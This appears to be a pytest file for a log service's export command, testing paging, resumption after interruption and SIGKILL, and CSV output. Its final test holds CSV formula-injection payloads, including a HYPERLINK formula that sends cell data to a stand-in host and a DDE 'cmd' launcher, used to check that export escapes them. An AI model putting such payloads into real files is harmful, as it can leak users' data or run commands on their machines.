"""`logsvc export` on every target with known data (tests/insight_fixtures.py): complete,
oldest first, across pages, across an interruption and a kill."""

from __future__ import annotations

import csv
import io
import json
import random
import uuid
from datetime import timedelta

import pytest

from tests.insight_fixtures import (  # noqa: F401 - target, loaded and moto_endpoint are fixtures
    HOURS,
    SEVERITIES,
    cli,
    in_window,
    jsonl,
    loaded,
    moto_endpoint,
    stored_form,
    target,
    window_start,
)


def test_export_is_complete_oldest_first_over_many_pages(loaded):
    target, base, entries, window = loaded
    result = cli(target.env, "export", *window, "--page-size", "7")
    assert result.exit_code == 0, result.output
    exported = [json.loads(line) for line in result.stdout.splitlines()]
    assert exported == in_window(entries, base)


def test_export_resumes_after_an_interruption_exactly_once(loaded, tmp_path):
    target, base, entries, window = loaded
    out, cursor = tmp_path / "export.jsonl", tmp_path / "export.cursor"
    args = ("export", *window, "--page-size", "5", "--out", str(out), "--cursor", str(cursor))
    first = cli(target.env, *args, "--max-pages", "3")
    assert first.exit_code == 0, first.output
    assert len(out.read_text().splitlines()) == 15
    # Killed after writing part of the next page but before saving the position: a resume cuts it.
    with open(out, "a") as handle:
        handle.write('{"id": "half a page that was never recorded')
    second = cli(target.env, *args)
    assert second.exit_code == 0, second.output
    exported = [json.loads(line) for line in out.read_text().splitlines()]
    assert exported == in_window(entries, base)
    again = cli(target.env, *args)
    assert again.exit_code == 0 and "already complete" in again.stderr
    assert [json.loads(line) for line in out.read_text().splitlines()] == exported


def test_export_csv_and_a_cursor_of_another_export_is_refused(loaded, tmp_path):
    target, base, entries, window = loaded
    out, cursor = tmp_path / "export.csv", tmp_path / "c"
    result = cli(target.env, "export", *window, "--format", "csv", "--out", str(out), "--cursor", str(cursor),
                 "--page-size", "9")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert [row["id"] for row in rows] == [e["id"] for e in in_window(entries, base)]
    assert [row["message"] for row in rows] == [e["message"] for e in in_window(entries, base)]
    other = cli(target.env, "export", *window, "--severity", "error", "--out", str(tmp_path / "x"), "--cursor", str(cursor))
    assert other.exit_code == 2 and "another export" in other.stderr


def test_export_killed_mid_run_resumes_exactly_once(tmp_path):
    """A real process killed with SIGKILL (anywhere: mid-page, between a page and its position)."""
    import os
    import signal
    import subprocess
    import sys
    import time

    from tests.conftest import ROOT, run_logsvc

    base = window_start()
    rng = random.Random(5)
    entries = [{"id": str(uuid.UUID(int=rng.getrandbits(128), version=4)),
                "dateTime": stored_form(base + timedelta(seconds=rng.uniform(0, HOURS * 3600))),
                "severity": SEVERITIES[index % 3], "message": f"bulk {index}", "source": "test"} for index in range(8000)]
    path = tmp_path / "bulk.jsonl"
    path.write_bytes(jsonl(entries))
    assert run_logsvc("send", "--file", str(path)).returncode == 0
    out, cursor = tmp_path / "bulk-export.jsonl", tmp_path / "bulk.cursor"
    args = [sys.executable, "-m", "logsvc", "export", "--since", stored_form(base), "--until",
            stored_form(base + timedelta(hours=HOURS)), "--page-size", "10", "--out", str(out), "--cursor", str(cursor)]
    proc = subprocess.Popen(args, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=dict(os.environ))
    deadline = time.monotonic() + 60
    while not (cursor.exists() and json.loads(cursor.read_text() or "{}").get("written", 0) >= 1500):
        assert proc.poll() is None and time.monotonic() < deadline, "the export ended before it could be killed"
        time.sleep(0.01)
    proc.send_signal(signal.SIGKILL)
    proc.wait(10)
    saved = json.loads(cursor.read_text())
    assert not saved["done"] and saved["written"] < len(entries)
    resumed = subprocess.run(args, cwd=ROOT, capture_output=True, env=dict(os.environ), timeout=120)
    assert resumed.returncode == 0, resumed.stderr
    exported = [json.loads(line) for line in out.read_text().splitlines()]
    assert [entry["id"] for entry in exported] == [entry["id"] for entry in in_window(entries, base)]
    assert json.loads(cursor.read_text())["done"] is True


def test_export_pages_cut_by_the_service_and_by_the_scan_budget_lose_nothing(loaded, monkeypatch):
    """Pages shorter than asked for (a Lambda response must fit 6 MB; a DynamoDB read stops at its
    scan budget, possibly with no entry at all) continue from the position given: nothing is lost."""
    target, base, entries, window = loaded
    if target.name == "local":
        pytest.skip("the local store pages by its index alone")
    if target.name == "url":
        from logsvc.handler import paging

        monkeypatch.setattr(paging, "fitting", lambda logs, budget=0: min(3, len(logs)))  # the server's cut
    else:
        from logsvc.store.dynamodb import scan

        monkeypatch.setattr(scan, "scan_budget", lambda limit, cap=0: 4)  # 4 items read a page at most
    result = cli(target.env, "export", *window, "--page-size", "10", "--grep", "disk full")
    assert result.exit_code == 0, result.output
    expected = [e for e in in_window(entries, base) if "disk full" in e["message"]]
    assert [json.loads(line) for line in result.stdout.splitlines()] == expected
    result = cli(target.env, "export", *window, "--page-size", "10")
    assert [json.loads(line)["id"] for line in result.stdout.splitlines()] == [e["id"] for e in in_window(entries, base)]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_open_as_text():
    """CSV is for spreadsheets: a message starting = + - @ (or a tab or CR) gets a leading ', so
    `=HYPERLINK(...)` shows as text instead of running; JSON Lines keeps the text exactly."""
    from logsvc.entry import normalise
    from logsvc.export import encode

    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tindented", "plain = fine"]
    entries = [normalise({"severity": "info", "message": m, "source": s})
               for m, s in zip(hostile, ["=cmd|' /C calc'!A0", "web-1", "web-1", "web-1", "web-1", "web-1"])]
    rows = list(csv.DictReader(io.StringIO(encode(entries, "csv", header=True))))
    assert [row["message"] for row in rows] == ["'" + m for m in hostile[:5]] + ["plain = fine"]
    assert rows[0]["source"] == "'=cmd|' /C calc'!A0" and rows[1]["source"] == "web-1"
    assert [json.loads(line)["message"] for line in encode(entries, "jsonl").splitlines()] == hostile
